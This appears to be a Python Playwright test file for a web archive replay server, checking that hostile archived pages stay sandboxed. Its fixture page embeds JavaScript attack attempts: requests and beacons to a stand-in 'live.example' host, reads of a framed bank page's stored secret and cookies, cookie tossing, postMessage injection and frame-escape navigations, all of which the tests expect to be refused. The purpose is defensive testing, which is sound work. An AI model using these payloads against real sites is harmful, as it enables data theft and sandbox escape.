"""Hostile archived pages in the replay zone, in a real browser: they reach neither us, nor each other, nor the world.

`bare` is a window that no shim has seen: what holds there is the policy of the server, not the politeness of a script.
"""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import Frame, expect

from tests.serve.browser import DEADLINE, NewTab, Origins, Tab, needs_browser, serving
from tests.serve.warc_fixtures import HTML, collection, response

pytestmark = needs_browser
expect.set_options(timeout=DEADLINE)

WHEN, LATER = "20230401120000", "20240401120000"
JS = (("Content-Type", "text/javascript"),)
SOCKET = "new Promise((yes, no) => {const s = new bare.%s(%s); s.onopen = yes; s.onerror = no})"
ELEMENT = (
    "new Promise((yes, no) => {const e = document.createElement('%s'); e.onload = yes; e.onerror = no;"
    " bareSet.call(e, '%s', %s); document.body.append(e)})"
)
REFUSED = {
    **{
        f"fetch_{name}": f"bare.fetch({where}, {{mode: 'no-cors'}})"
        for name, where in {
            "application": "app + '/attempt/tasks'",
            "view": "view + '/attempt'",
            "path_form": "shared + '/web/2023/https://bank.example/'",
            "live": "'http://live.example/attempt'",
            "other_port": "'http://127.0.0.1:1/attempt'",
        }.items()
    },
    "post": "bare.fetch(app + '/attempt/tasks/retry', {method: 'POST', mode: 'no-cors', body: 'x'})",
    "ajax": "new Promise((yes, no) => {const r = new bare.XMLHttpRequest(); r.onload = yes; r.onerror = no;"
    " r.open('POST', app + '/attempt/ajax'); r.send()})",
    "socket": SOCKET % ("WebSocket", "app.replace('http', 'ws') + '/attempt/socket'"),
    "socket_live": SOCKET % ("WebSocket", "'ws://live.example/attempt'"),
    "events": SOCKET % ("EventSource", "app + '/attempt/events'"),
    "image": ELEMENT % ("img", "src", "app + '/attempt/i'"),
    "image_live": ELEMENT % ("img", "src", "'http://live.example/i'"),
    "script": ELEMENT % ("script", "src", "app + '/attempt/s'"),
    "style_live": "new Promise((yes, no) => {const e = document.createElement('link'); e.rel = 'stylesheet';"
    " e.onload = yes; e.onerror = no; bareSet.call(e, 'href', 'http://live.example/x.css'); document.head.append(e)})",
    "module": "bare.eval('import(\"http://live.example/m.js\")')",
    "worker_elsewhere": "new bare.Worker(app + '/attempt/w.js')",
    "service_worker": "bare.navigator.serviceWorker.register('/worker.js')",
    "service_worker_of_shim": "navigator.serviceWorker.register('/worker.js')",
    "parent_page": "bare.top.document.title",
    "parent_storage": "bare.top.localStorage.length",
    "top": "bare.top.location = app + '/attempt/top'",
    "top_replace": "bare.top.location.replace(view + '/attempt/top')",
    "frame_of_view": "framed(view + '/web/2023/https://bank.example/')",
    "frame_of_application": "framed(app + '/attempt/frame')",
    "bank_page": "bank.contentWindow.document.title",
    "bank_storage": "bank.contentWindow.localStorage.secret",
    "bank_database": "bank.contentWindow.indexedDB",
    "forged_pass": "bare.fetch(forged).then(r => { if (!r.ok) throw 0 })",
    "worklet": "bare.CSS.paintWorklet.addModule('http://live.example/paint.js')",
    "sound_worklet": "new bare.OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('http://live.example/sound.js')",
    "identity": "bare.navigator.credentials.get({identity: {providers:"
    " [{configURL: 'http://live.example/identity.json', clientId: '1'}]}})",
    "embed": ELEMENT % ("embed", "src", "'http://live.example/e'"),
    "plugin": "new Promise((yes, no) => {const e = document.createElement('object'); e.onload = yes; e.onerror = no;"
    " bareData.call(e, 'data', 'http://live.example/o'); document.body.append(e)})",
}
BLIND = """
bare.navigator.sendBeacon(app + '/attempt/beacon', 'x');
bare.navigator.sendBeacon('http://live.example/beacon', 'x');
bare.open(app + '/attempt/window');
bare.document.cookie = 'everywhere=1; domain=.replay.localhost; path=/';
for (let i = 0; i < 3; i++) bare.top.postMessage({webmill: {place: '/steal', missing: '<b id=injected>x</b>'}}, '*');
bare.top.postMessage({webmill: ['20230401120000', 'https://bank.example/', '0'.repeat(64)]}, '*');
for (const [name, more] of [['link', {rel: 'dns-prefetch', href: 'http://live.example/'}],
    ['link', {rel: 'prefetch', href: 'http://live.example/'}], ['video', {src: 'http://live.example/video'}],
    ['iframe', {src: app + '/attempt/frame'}]]) {
  const made = document.createElement(name);
  for (const [key, value] of Object.entries(more)) bareSet.call(made, key, value);
  document.body.append(made);
}
const quietly = (attempt) => { try { Promise.resolve(attempt()).catch(() => 0) } catch {} };
quietly(() => bare.fetchLater(app + '/attempt/later', {activateAfter: 0}));
quietly(() => bare.fetchLater('http://live.example/later', {activateAfter: 0}));
quietly(() => new bare.PaymentRequest([{supportedMethods: 'http://live.example/pay'}],
  {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment());
quietly(() => bare.cookieStore.set({name: 'store', value: '1', domain: 'replay.localhost'}));
bareSet.call(document.body, 'style', "background: url('http://live.example/background')");
const sheet = bare.document.createElement('style');
sheet.textContent = "@import 'http://live.example/import.css'; @font-face {font-family: f; src: url(http://live.example/f)}"
  + " body {font-family: f; cursor: url(http://live.example/cursor), auto}";
bare.document.head.append(sheet);
bare.document.body.append('text');
const rules = document.createElement('script');
rules.type = 'speculationrules';
rules.textContent = JSON.stringify({prefetch: [{urls: ['http://live.example/p'], eagerness: 'immediate'}]});
document.head.append(rules);
"""
EVIL = f"""<!doctype html><title>Evil</title><body><h1>Evil</h1><iframe></iframe><iframe id=bank src="https://bank.example/"></iframe>
<script>
addEventListener('load', async () => {{
  const bare = window[0], bareSet = bare.Element.prototype.setAttribute, bareData = bareSet;
  const bank = document.getElementById('bank');
  const forged = bare.location.origin.replace(/-[a-z2-7]{{8}}-s/, '-aaaaaaaa-s');
  const framed = address => new Promise((yes, no) => {{
    const f = document.createElement('iframe');
    f.onload = () => {{ try {{ f.contentWindow.document.body ? no() : no() }} catch {{ no() }} }};
    bareSet.call(f, 'src', address); document.body.append(f);
  }});
  window.results = {{}};
  for (const [name, code] of Object.entries({json.dumps(REFUSED)})) {{
    const late = new Promise((_, no) => setTimeout(no, 2000));
    const attempt = eval('(async () => ' + code + ')()');
    results[name] = await Promise.race([attempt, late]).then(() => 'reached', () => 'refused');
  }}
  {BLIND}
  window.done = true;
}});
</script>"""
BANK = "<title>Bank</title><script>localStorage.secret = 'gold'; document.cookie = 'login=yes'</script>"
READ = "<title>Read</title><p id=out>x</p><script>out.textContent = [localStorage.secret, document.cookie]</script>"
LEAVING = {
    "form": "const f = document.body.appendChild(document.createElement('form')); f.method = 'post';"
    " bareSet.call(f, 'action', app + '/attempt/form'); f.submit()",
    "link": "const a = document.body.appendChild(document.createElement('a')); bareSet.call(a, 'target', '_top');"
    " bareSet.call(a, 'href', app + '/attempt/link'); a.click()",
    "away": "bare.eval('parent.location = \"http://live.example/away\"')",
    "home": "bare.eval('parent.location = ' + JSON.stringify(app + '/attempt/home'))",
}


def evil_page(script: str) -> bytes:
    bare = "const bare = window[0], bareSet = bare.Element.prototype.setAttribute;"
    return f"<body><iframe></iframe><script>{bare} setTimeout(() => {{ {script} }}, 50)</script>".encode()


def records(app: str, view: str, shared: str) -> Iterator[bytes]:
    """The pages, once the addresses of the server are known: a hostile page can guess them."""
    names = f"<script>const app = {app!r}, view = {view!r}, shared = {shared!r}</script>"
    for when in (WHEN, LATER):
        yield response("https://evil.example/", when, (names + EVIL).encode(), head=HTML)
        yield response("https://bank.example/", when, BANK.encode(), head=HTML)
        yield response("https://bank.example/read", when, READ.encode(), head=HTML)
    yield response("https://evil.example/worker.js", WHEN, b"1", head=JS)
    for name, script in LEAVING.items():
        yield response(f"https://evil.example/{name}", WHEN, names.encode() + evil_page(script), head=HTML)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Origins]:
    root = tmp_path_factory.mktemp("hostile")
    with serving(root, in_zone=True) as origins:
        view = origins.address.replace("127.0.0.1", "view.replay.localhost")
        collection(root, records(origins.address, view, origins.replay))
        yield origins


def open_framed(tab: Tab, origins: Origins, url: str, *, when: str = WHEN) -> Frame:
    origins.asked.clear()
    tab.page.goto(f"{origins.address}/web/{when}/{url}")
    frame = tab.page.locator("#page").element_handle().content_frame()
    assert frame
    return frame


def test_a_hostile_page_reaches_neither_us_nor_others_nor_the_world(new_tab: NewTab, hostile: Origins) -> None:
    tab = new_tab()
    frame = open_framed(tab, hostile, "https://evil.example/")
    tab.wait_until(lambda: frame.evaluate("window.done"), "all attempts")
    tab.page.wait_for_timeout(1000)  # what gives no answer has gone wherever it goes
    assert frame.evaluate("results") == dict.fromkeys(REFUSED, "refused")
    assert not [asked for asked in hostile.asked if "attempt" in asked.partition("?")[0]]
    assert tab.page.context.pages == [tab.page]
    assert tab.page.url.endswith(f"/web/{WHEN}/https://evil.example/")
    expect(tab.page.locator("#banner h1")).to_have_text("Evil")
    assert tab.page.locator("#injected").count() == 0
    assert frame.evaluate("typeof RTCPeerConnection") == "undefined"
    frame.evaluate("window.saved = 1")
    hostile.asked.clear()
    open_framed(tab, hostile, "https://bank.example/")  # the cookie for the whole zone changes nothing
    expect(tab.page.locator("#banner h1")).to_have_text("Bank")


@pytest.mark.parametrize("name", LEAVING)
def test_a_hostile_page_cannot_leave_its_frame(new_tab: NewTab, hostile: Origins, name: str) -> None:
    tab = new_tab()
    open_framed(tab, hostile, f"https://evil.example/{name}")
    tab.page.wait_for_timeout(1500)
    assert not [asked for asked in hostile.asked if "attempt" in asked.partition("?")[0]]
    assert tab.page.url.endswith(f"/web/{WHEN}/https://evil.example/{name}")


def test_storage_is_kept_apart_by_origin_and_time(new_tab: NewTab, hostile: Origins) -> None:
    tab = new_tab()
    open_framed(tab, hostile, "https://bank.example/").wait_for_function("localStorage.secret")
    frame = open_framed(tab, hostile, "https://bank.example/read")
    expect(frame.locator("#out")).to_have_text("gold,login=yes")
    frame = open_framed(tab, hostile, "https://bank.example/read", when=LATER)
    expect(frame.locator("#out")).to_have_text(",")


def test_another_site_can_neither_frame_nor_read_archived_pages_of_the_zone(new_tab: NewTab, hostile: Origins) -> None:
    tab = new_tab()
    source = open_framed(tab, hostile, "https://bank.example/").url
    tab.page.goto("about:blank")
    tab.page.set_content(f"""<iframe id=framed src="{source}"></iframe><script>
    fetch('{source}').then(answer => answer.text(), () => 'refused').then(text => document.title = text)</script>""")
    tab.wait_until(tab.page.title, "an answer")
    assert "Bank" not in tab.page.title()
    framed = tab.page.main_frame.child_frames[0]
    tab.wait_until(lambda: framed.url not in ("", "about:blank"), "the frame")
    assert "Bank" not in framed.content()


def test_an_archived_page_opened_alone_is_led_below_the_banner_of_the_zone(new_tab: NewTab, hostile: Origins) -> None:
    tab = new_tab()
    source = open_framed(tab, hostile, "https://bank.example/").url
    tab.page.goto(source)
    expect(tab.page.locator("#banner h1")).to_have_text("Bank")
    assert "://view.replay.localhost" in tab.page.url
